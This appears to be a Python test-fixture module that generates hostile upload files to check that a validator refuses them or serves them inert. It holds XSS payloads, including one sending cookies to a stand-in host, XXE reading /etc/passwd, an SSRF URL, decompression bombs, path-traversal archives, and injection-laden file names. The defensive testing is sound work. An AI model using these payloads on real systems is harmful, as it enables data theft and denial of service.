"""Files made to hurt whoever opens them. Small to send, made here, so that no scanner finds them in the repository."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cached_property

from tests.factories.files import bomb, photo, picture

MiB = 1 << 20
SCRIPT = b"<script>fetch('https://canary.example/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
PDF = (
    b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n"
    b"trailer<</Root 1 0 R>>\n"
)


@dataclass(frozen=True)
class Hostile:
    """A file and what must become of it.

    Attributes:
        content: the file, or what makes it: bombs are made when a test sends them.
        is_refused: True: it must not be taken; False: taken and served inert; None: either, as long as it is inert.
    """

    name: str
    content: bytes | Callable[[], bytes]
    is_refused: bool | None

    @cached_property
    def data(self) -> bytes:
        return self.content() if callable(self.content) else self.content


def zipped(*members: tuple[str, bytes], level: int = 9) -> bytes:
    """Return an archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as file:
        for name, data in members:
            file.writestr(name, data)
    return out.getvalue()


def office(kind: str, *members: tuple[str, bytes]) -> bytes:
    """Return an archive that looks like an office document."""
    return zipped(("[Content_Types].xml", b"<Types/>"), (f"{kind}/document.xml", b"<w/>"), *members)


def chunk(kind: bytes, data: bytes) -> bytes:
    """Return a chunk of a PNG."""
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))


def text_bomb() -> bytes:
    """Return a small picture with a comment that unpacks to 64 MiB."""
    whole = picture()
    return whole[:33] + chunk(b"zTXt", b"c\0\0" + zlib.compress(b"\0" * (64 * MiB), 9)) + whole[33:]


def pixel_bomb() -> bytes:
    """Return a true PNG of one colour, 36 million pixels in some kilobytes."""
    side = 6000
    rows = zlib.compress(b"\0" * ((side // 8 + 1) * side), 9)
    head = struct.pack("!IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def lying_wav() -> bytes:
    """Return a sound whose header announces 4 GiB."""
    return (
        b"RIFF\xff\xff\xff\xffWAVEfmt \x10\0\0\0\x01\0\x01\0"
        + b"\0" * 12
        + b"data\xff\xff\xff\xff"
        + b"\0" * 40
    )


CORPUS: dict[str, Hostile] = {
    # one thing by name, another by content
    "program as picture": Hostile("cat.png", b"MZ" + b"\0" * 200, True),
    "elf as text": Hostile("a.txt", b"\x7fELF" + b"\0" * 200, True),
    "program by name": Hostile("setup.exe", b"hello", True),
    "program behind a double name": Hostile("bill.pdf.exe", b"%PDF-1.7\n", True),
    "page as picture": Hostile("cat.png", b"<html>" + SCRIPT, True),
    "page as pdf": Hostile("a.pdf", b"<html>" + SCRIPT, True),
    "svg as picture": Hostile("cat.png", SVG, True),
    "zip as picture": Hostile("cat.jpg", zipped(("a", b"a")), True),
    "postscript as picture": Hostile("cat.png", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file", True),
    "playlist as sound": Hostile("a.mp3", b"#EXTM3U\nfile:///etc/passwd\nhttp://169.254.169.254/", True),
    "text as office": Hostile("a.docx", b"hello", True),
    "table as letter": Hostile("a.docx", office("xl"), True),
    # two things at once
    "picture and page": Hostile("a.gif", b"GIF89a/*" + SCRIPT + b"*/=1;", True),
    "jpeg and zip": Hostile("a.jpg", photo() + zipped(("evil.html", SCRIPT)), None),
    "png and script": Hostile("a.png", picture() + SCRIPT, None),
    "pdf and page": Hostile("a.pdf", PDF + b"<html>" + SCRIPT, False),
    # active content, truly named
    "svg": Hostile("a.svg", SVG, False),
    "page": Hostile("a.html", b"<html>" + SCRIPT, False),
    "xml with a style": Hostile(
        "a.xml", b'<?xml version="1.0"?><?xml-stylesheet href="evil.xsl"?><a/>', False
    ),
    "xml bomb": Hostile("a.xml", b'<!DOCTYPE a [<!ENTITY b "x"><!ENTITY c "&b;&b;">]><a>&c;</a>', False),
    "xml of a local file": Hostile(
        "a.xml", b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', False
    ),
    "script": Hostile("a.js", b"alert(1)", False),
    "style": Hostile("a.css", b"@import 'https://canary.example/';", False),
    "pdf with an action": Hostile("a.pdf", PDF, False),
    "macro": Hostile("a.docx", office("word", ("word/vbaProject.bin", b"\0" * 10)), None),
    "unknown with a page in it": Hostile("a.strange", b"<html>" + SCRIPT, False),
    # bombs
    "picture that announces 1.6 billion pixels": Hostile("a.png", bomb, True),
    "picture of 36 million pixels": Hostile("a.png", pixel_bomb, None),
    "picture with a comment of 64 MiB": Hostile("a.png", text_bomb, None),
    "archive of 64 MiB": Hostile("a.zip", lambda: zipped(("a", b"\0" * (64 * MiB))), False),
    "archive in archives": Hostile(
        "a.zip", lambda: zipped(("b.zip", zipped(("c", b"\0" * (8 * MiB))))), False
    ),
    "archive of 10,000 names": Hostile(
        "a.zip", lambda: zipped(*((f"{n}", b"") for n in range(10_000))), False
    ),
    "archive with paths": Hostile("a.zip", zipped(("../../../etc/cron.d/x", b"x"), ("/etc/x", b"x")), False),
    "office document that is a bomb": Hostile(
        "a.docx", lambda: office("word", ("word/x", b"\0" * (64 * MiB))), None
    ),
    "sound that lies about its length": Hostile("a.wav", lying_wav(), None),
    "truncated picture": Hostile("a.png", picture()[:40], True),
    "truncated archive": Hostile("a.zip", zipped(("a", b"a"))[:20], True),
    "only zeros": Hostile("a.png", b"\0" * 5000, True),
}
NAMES = [
    "../../etc/passwd", "..\\..\\windows\\system32\\x", "/etc/cron.d/evil", "C:\\evil.txt", "a/b/c.txt",
    "....//x.txt", ".", "..", "", " ", "\u202egnp.exe.txt", "a\u200fb.txt", "a\x00.txt", "a\r\nSet-Cookie: x=1.txt",
    'a".txt', "a'; DROP TABLE x;--.txt", "x" * 5000 + ".txt", "é" * 300 + ".txt", "CON.txt", ".htaccess", "a.txt.",
    "a.txt ", "<img src=x onerror=alert(1)>.txt", "%2e%2e%2fx.txt", "a\ud800.txt", "\u2028a.txt",
    "~/.ssh/authorized_keys", "$(id).txt", "-rf.txt", "a;b.txt",
]  # fmt: skip
